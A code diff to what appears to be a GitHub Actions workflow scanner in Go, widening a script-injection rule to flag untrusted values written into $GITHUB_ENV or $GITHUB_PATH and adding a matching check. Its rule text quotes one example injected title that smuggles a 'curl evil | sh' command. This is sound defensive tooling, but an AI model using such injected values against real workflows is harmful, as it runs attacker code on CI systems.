@@ -50,7 +50,8 @@ func Rules() []RuleInfo {
 				"inlineScript, yq's cmd, a local composite action's input that reaches its run:), interpolates ${{ }} " +
 				"values an outsider controls: issue and pull request titles and bodies, comment bodies, branch names, " +
 				"commit messages, env variables set from them, outputs of actions that echo pull-request file or branch names. " +
-				"ACTIONS_ALLOW_UNSECURE_COMMANDS is reported too: it lets any printed text set environment variables. In a reusable workflow or composite action, the caller's " +
+				"ACTIONS_ALLOW_UNSECURE_COMMANDS is reported too: it lets any printed text set environment variables; so is such a " +
+				"value written into $GITHUB_ENV or $GITHUB_PATH, where a newline sets any variable for later steps. In a reusable workflow or composite action, the caller's " +
 				"inputs count too (medium severity). Comparisons and predicates such as contains() yield true or false " +
 				"and are not reported. The value is pasted into the " +
 				"script before the shell runs, so a title like `a\"; curl evil | sh; \"` executes. Pass the value " +
@@ -101,6 +102,7 @@ var checks = []check{
 	checkSecretOverexposure,
 	checkHardcodedCredentials,
 	checkInsecureCommands,
+	checkEnvFileInjection,
 }
 
 // finding builds a finding at a node's position.
